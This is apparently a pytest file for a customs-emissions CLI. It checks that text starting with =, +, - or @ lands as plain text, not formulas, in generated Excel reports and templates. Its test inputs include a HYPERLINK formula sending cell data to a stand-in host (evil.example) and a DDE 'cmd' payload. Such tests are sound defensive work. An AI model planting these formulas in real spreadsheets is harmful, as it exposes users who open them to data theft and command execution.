"""Excel outputs neutralise formula injection: input text beginning with =, +, -, @ is
written as a text cell in report.xlsx and in a filled template, never as a formula."""

from __future__ import annotations

import json
import re
import zipfile
from pathlib import Path

import openpyxl

from .conftest import cli

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
]


def _formulas(path: Path) -> list[str]:
    """Every <f> element (a formula) in the workbook's sheets."""
    found: list[str] = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += re.findall(r"<f[ >/]", archive.read(name).decode("utf-8"))
    return found


def test_report_xlsx_writes_hostile_text_as_text(tmp_path: Path) -> None:
    imports = tmp_path / "imports.csv"
    rows = ["line_id,cn_code,country,net_mass,import_date"]
    for i, text in enumerate(HOSTILE):
        quoted = '"' + text.replace('"', '""') + '"'
        rows.append(f"{quoted},72081000,CN,{i + 1},2026-03-0{i + 1}")
    imports.write_text("\n".join(rows) + "\n", encoding="utf-8")
    declarant = json.loads((ROOT / "samples" / "declarant.json").read_text(encoding="utf-8"))
    declarant["declarant"]["name"] = "=1+1 Trading"
    declarant_path = tmp_path / "declarant.json"
    declarant_path.write_text(json.dumps(declarant), encoding="utf-8")
    out = tmp_path / "out"
    run = cli("assess", imports, "--year", "2026", "--out", out, "--declarant", declarant_path)
    assert run.code == 0, run.err
    report = out / "report.xlsx"
    assert _formulas(report) == []
    book = openpyxl.load_workbook(report)
    lines = book["Lines"]
    header = [c.value for c in lines[1]]
    column = header.index("Line id") + 1
    cells = [lines.cell(row=r, column=column) for r in range(2, 2 + len(HOSTILE))]
    assert [c.value for c in cells] == HOSTILE
    assert {c.data_type for c in cells} == {"s"}
    summary_texts = [c.value for row in book["Summary"].iter_rows() for c in row]
    assert "=1+1 Trading" in summary_texts


def test_filled_template_writes_hostile_text_as_text(reference_dir: Path, tmp_path: Path) -> None:
    blank = reference_dir / "xlsx" / "communication-template-v2.1.1-blank.xlsx"
    data = json.loads(
        (ROOT / "samples" / "installations" / "cement.json").read_text(encoding="utf-8")
    )
    data["installation"]["name"] = HOSTILE[0]
    data["processes"][0]["name"] = "@evil"
    installation = tmp_path / "inst.json"
    installation.write_text(json.dumps(data), encoding="utf-8")
    out = tmp_path / "filled.xlsx"
    before = len(_formulas(blank))
    run = cli("template", "fill", installation, "--template", blank, "-o", out)
    assert run.code == 0, run.err
    # The template's own formulas stay; none was added from the installation's texts.
    assert len(_formulas(out)) == before
    with zipfile.ZipFile(out) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if "worksheets/" in n)
    assert b'<is><t xml:space="preserve">=HYPERLINK(' in xml
    assert b'<is><t xml:space="preserve">@evil</t></is>' in xml


def test_lines_csv_is_data_kept_verbatim(tmp_path: Path) -> None:
    """lines.csv is the exact record (read back by tools, summed to the totals): text stays as
    given, so a line id "=1+2" comes back "=1+2". The Excel outputs are the ones people open,
    and there such text is written as text (tests above). docs/declaration-format.md says so."""
    imports = tmp_path / "imports.csv"
    imports.write_text(
        'line_id,cn_code,country,net_mass,import_date\n"=1+2",72081000,CN,1,2026-03-01\n',
        encoding="utf-8",
    )
    assert cli("assess", imports, "--year", "2026", "--out", tmp_path / "o").code == 0
    from cbam.formats.lines import read_lines_csv

    (line,) = read_lines_csv(tmp_path / "o" / "lines.csv")
    assert line.line_id == "=1+2"
    with zipfile.ZipFile(tmp_path / "o" / "report.xlsx") as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if "worksheets/" in n)
    assert b"<f>" not in xml
